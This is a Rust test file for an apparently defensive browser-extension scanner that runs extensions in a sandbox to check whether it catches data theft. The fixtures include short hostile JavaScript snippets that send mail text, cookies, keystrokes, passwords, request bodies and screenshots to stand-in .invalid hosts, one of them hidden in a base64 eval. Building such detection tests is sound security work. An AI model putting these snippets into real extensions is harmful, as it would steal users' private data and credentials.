//! Whole extensions in the sealed worker: where canaries arrive, and where not.

use std::collections::BTreeSet;
use std::path::Path;

use crxhound::acquire::Package;
use crxhound::extract::Fact;
use crxhound::model::{Extension, ExtensionId, Integrity, manifest};
use crxhound::sandbox::{Budget, Worker, emulate};

use crate::decode::npm;

fn extension(package: &Package) -> Extension {
    let manifest = manifest::parse(package.bytes("manifest.json").unwrap()).unwrap().0;
    Extension {
        id: ExtensionId::from_path(&package.path, false),
        name: manifest.name.clone(),
        description: String::new(),
        version: manifest.version.clone(),
        manifest: Some(manifest),
        install: None,
        integrity: Integrity::default(),
    }
}

fn run(package: &Package) -> Vec<Fact> {
    let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), Budget::default());
    let (emulation, problems) = emulate(&worker, &extension(package), package);
    assert_eq!(problems, [], "{}", package.path);
    for (scene, events) in &emulation.story {
        let broken = events.iter().find(|event| event.kind == "broken");
        assert!(broken.is_none(), "{} {scene}: {broken:?}", package.path);
    }
    emulation.facts
}

/// Sources, ways and destinations of the flows to foreign places.
fn flows(facts: &[Fact]) -> BTreeSet<String> {
    let flows = facts.iter().filter(|fact| fact.kind.name == "flow");
    let foreign = flows.filter(|fact| !["provider", "declared", "local"].contains(&fact.field("class").unwrap_or_default()));
    foreign
        .map(|fact| format!("{} {} {}", fact.value, fact.field("sink").unwrap(), fact.field("destination").unwrap()))
        .collect()
}

const MANIFEST: &str = r#"{"manifest_version":3,"name":"x","version":"1","permissions":["cookies","storage"],
    "host_permissions":["https://mail.google.com/*"],"background":{"service_worker":"bg.js"},
    "content_scripts":[{"matches":["https://mail.google.com/*"],"js":["c.js"]}]}"#;

fn package(background: &str, content: &str) -> Package {
    let files = [("manifest.json", MANIFEST), ("bg.js", background), ("c.js", content)];
    Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())))
}

/// A mail reader in two worlds, as the classic ones are built.
const READER: (&str, &str) = (
    "chrome.runtime.onMessage.addListener((m, s, r) => { if (m.kind === 'mail') { fetch('https://collector.invalid/up', \
     { method: 'POST', body: btoa(JSON.stringify(m)) }); r({ ok: 1 }); } return true; });",
    "const read = () => { const body = document.querySelector('.a3s').innerText; chrome.runtime.sendMessage({ kind: 'mail', body }); };\
     setTimeout(read, 3000);",
);

#[test]
fn mail_that_leaves_is_seen_leaving() {
    let found = flows(&run(&package(READER.0, READER.1)));
    assert!(found.contains("mail.text fetch collector.invalid"), "{found:?}");
}

#[test]
fn mail_that_leaves_is_seen_through_every_obfuscation() {
    let forms = ["minified", "bundled", "obfuscated", "encoded", "rc4", "medium"];
    let jobs: Vec<_> = forms.iter().flat_map(|form| [(*form, READER.0), (*form, READER.1)]).collect();
    let Some(scripts) = npm::transform(&jobs) else { return };
    for (form, pair) in forms.iter().zip(scripts.chunks(2)) {
        let found = flows(&run(&package(&pair[0], &pair[1])));
        assert!(found.contains("mail.text fetch collector.invalid"), "{form}: {found:?}");
    }
}

#[test]
fn the_other_roads_out() {
    for (background, content, flow) in [
        (
            "chrome.cookies.getAll({}, (all) => navigator.sendBeacon('https://c.invalid', JSON.stringify(all)))",
            "",
            "cookie.identity beacon c.invalid",
        ),
        (
            "",
            "document.addEventListener('keydown', (e) => { new Image().src = 'https://c.invalid/?k=' + e.key })",
            "keyboard image c.invalid",
        ),
        (
            "",
            "document.forms[0].addEventListener('submit', () => { const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid'); x.send(document.querySelector('input[type=password]').value) })",
            "login.password xhr c.invalid",
        ),
        (
            "chrome.webRequest.onBeforeRequest.addListener((d) => { fetch('https://c.invalid/?' + new URLSearchParams({ b: JSON.stringify(d.requestBody) })) }, { urls: ['<all_urls>'] }, ['requestBody'])",
            "",
            "login.password fetch c.invalid",
        ),
        (
            "chrome.tabs.captureVisibleTab(null, {}, (image) => { const s = new WebSocket('wss://c.invalid'); s.onopen = () => s.send(image) })",
            "",
            "screen websocket c.invalid",
        ),
        (
            "(async () => { const [tab] = await chrome.tabs.query({}); const [r] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => document.body.innerText }); await fetch('https://c.invalid', { method: 'POST', body: r.result }) })()",
            "",
            "mail.text fetch c.invalid",
        ),
        (
            "eval(atob('ZmV0Y2goImh0dHBzOi8vbWFpbC5nb29nbGUuY29tL21haWwvZmVlZC9hdG9tIikudGhlbihyPT5yLnRleHQoKSkudGhlbih0PT5mZXRjaCgiaHR0cHM6Ly9jLmludmFsaWQiLHtib2R5OnR9KSk='))",
            "",
            "mail.feed fetch c.invalid",
        ),
    ] {
        let found = flows(&run(&package(background, content)));
        assert!(found.contains(flow), "{flow}: {found:?}");
    }
}

#[test]
fn nothing_is_seen_where_nothing_leaves() {
    for (background, content) in [
        ("fetch('https://api.invalid/version').then(r => r.json()).then(console.log)", "document.body.style.color = 'red'"),
        (
            "chrome.storage.local.set({ a: 1 }); chrome.alarms.create('x', { periodInMinutes: 1 })",
            "fetch('/mail/u/0/', { method: 'POST', body: document.body.innerText })",
        ),
        (
            "chrome.cookies.getAll({}, (all) => console.log(all.length))",
            "localStorage.setItem('mail', document.body.innerText)",
        ),
    ] {
        assert_eq!(flows(&run(&package(background, content))), BTreeSet::new());
    }
}

#[test]
fn hostile_extensions_end_in_time_and_the_same_way() {
    for (background, content) in [
        ("for (;;) {}", "for (;;) {}"),
        ("const f = () => { setTimeout(f, 0); setTimeout(f, 0) }; f()", "const g = () => Promise.resolve().then(g); g()"),
        (
            "Object.prototype.toString = null; Array.prototype.push = () => { throw 1 }; JSON.stringify = null; fetch('https://c.invalid')",
            "Function.prototype.call = null; Proxy = null",
        ),
        (
            "(function f() { f() })()",
            "chrome.runtime.onMessage.addListener(m => chrome.runtime.sendMessage(m)); chrome.runtime.sendMessage(1)",
        ),
        ("importScripts('bg.js', 'missing.js'); throw 1", "}{"),
    ] {
        let budget = || Budget { steps: 3_000_000, ..Budget::default() };
        let package = package(background, content);
        let runs: Vec<_> = (0..2)
            .map(|_| {
                let worker = Worker::with_program(env!("CARGO_BIN_EXE_crxhound"), budget());
                let (emulation, problems) = emulate(&worker, &extension(&package), &package);
                (flows(&emulation.facts), emulation.story, problems)
            })
            .collect();
        assert_eq!(runs[0], runs[1], "{background}");
    }
}

/// Every fixture that steals and says to whom: how many are proven by running them. Honest ones: none may be.
#[test]
fn fixtures_are_proven_by_running_them() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/packages");
    let (mut proven, mut thefts, mut missed, mut wrong) = (0, 0, Vec::new(), Vec::new());
    let mut folders: Vec<_> = std::fs::read_dir(&root).unwrap().filter_map(Result::ok).map(|entry| entry.path()).collect();
    folders.sort();
    for folder in folders.iter().filter(|folder| folder.join("manifest.json").is_file()) {
        let name = folder.file_name().unwrap().to_string_lossy().into_owned();
        let files: Vec<_> = walkdir::WalkDir::new(folder)
            .into_iter()
            .filter_map(Result::ok)
            .filter(|entry| entry.file_type().is_file())
            .map(|entry| {
                let path = entry.path().strip_prefix(folder).unwrap().to_string_lossy().replace('\\', "/");
                (path, std::fs::read(entry.path()).unwrap())
            })
            .collect();
        let package = Package::from_memory(&name, files.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())));
        let facts = run(&package);
        let found = flows(&facts);
        // What an extension declares of itself changes the class of the destination, not what was seen.
        let invalid =
            facts.iter().any(|fact| fact.kind.name == "flow" && fact.field("destination").unwrap().ends_with(".invalid"));
        if name.starts_with("honest-") {
            if !found.is_empty() {
                wrong.push(format!("{name}: {found:?}"));
            }
        } else {
            thefts += 1;
            let seen = invalid || !found.is_empty();
            proven += usize::from(seen);
            if !seen {
                missed.push(name);
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(proven * 100 >= thefts * 65, "{proven} of {thefts}, not {missed:?}");
}
